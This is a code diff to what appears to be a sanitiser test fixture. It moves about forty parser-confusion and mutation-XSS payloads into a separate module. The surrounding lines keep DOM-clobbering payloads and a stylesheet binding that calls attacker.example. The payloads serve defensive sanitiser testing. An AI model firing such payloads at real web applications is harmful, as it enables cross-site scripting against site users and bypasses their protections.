@@ -1,3 +1,5 @@
+import { parserConfusionPayloads } from './parser-confusion-payloads.ts';
+
 /**
  * Attacks on sanitisers, one of each kind that is publicly known (the families of the OWASP and
  * PortSwigger cheat sheets, of HTML5 Security, and mutation attacks on parsers). Each calls
@@ -173,50 +175,7 @@ export const xssPayloads: readonly string[] = [
   '<link rel=stylesheet href="javascript:alert(1)">',
   '<xss style="-moz-binding:url(https://attacker.example/x.xml#x)">',
 
-  // What one parser calls text and the next calls markup.
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
-  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
-  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
-  '<title><p title="</title><img src=x onerror=alert(1)>">',
-  '<style><p title="</style><img src=x onerror=alert(1)>">',
-  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
-  '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
-  '<plaintext><img src=x onerror=alert(1)>',
-  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
-  '<template><img src=x onerror=alert(1)></template>',
-  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '<!---><img src=x onerror=alert(1)>-->',
-  '<!-- --!><img src=x onerror=alert(1)> -->',
-  '<!--<img src="--><img src=x onerror=alert(1)//">',
-  '<![CDATA[<img src=x onerror=alert(1)>]]>',
-  '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
-  '<?xml-stylesheet href="javascript:alert(1)"?><img src=x onerror=alert(1)>',
-  '<!DOCTYPE x [<!ENTITY y "<img src=x onerror=alert(1)>">]>&y;',
-  '</p title="><img src=x onerror=alert(1)>">',
-  '<p title="`"><img src=x onerror=alert(1)>`">',
-  "<p title='\"><img src=x onerror=alert(1)>'>go</p>",
-  '<a href="https://clinic.example/" title="x" style="x"onclick=alert(1)//">go</a>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)></style></math></table></mtext></math>',
-  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
-  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
-  '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
-  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
-  '<select><template><img src=x onerror=alert(1)></template></select>',
-  '<select><style></select><img src=x onerror=alert(1)></style>',
-  '<table><caption><svg><style></caption><img src=x onerror=alert(1)></style></svg></table>',
-  '<img alt="<x" title="/><img src=x onerror=alert(1)>">',
-  '<img src="https://x.example/" alt="&quot; onerror=alert(1) x=&quot;">',
-  '<a href="https://x.example/&quot;onmouseover=&quot;alert(1)">go</a>',
-  '&lt;script&gt;alert(1)&lt;/script&gt;',
-  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
-  '<p>&lt;img src=x onerror=alert(1)&gt;</p>',
-  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
-  '\ufeff<script>alert(1)</script>',
-  `${'<div>'.repeat(600)}<img src=x onerror=alert(1)>`,
-
+  ...parserConfusionPayloads,
   // Names that replace what the page's own scripts rely on.
   '<form name=body><input name=firstChild></form><img name=cookie src=x onerror=alert(1)>',
   '<a id=location href="javascript:alert(1)">go</a><a id=location name=href href="x">go</a>',
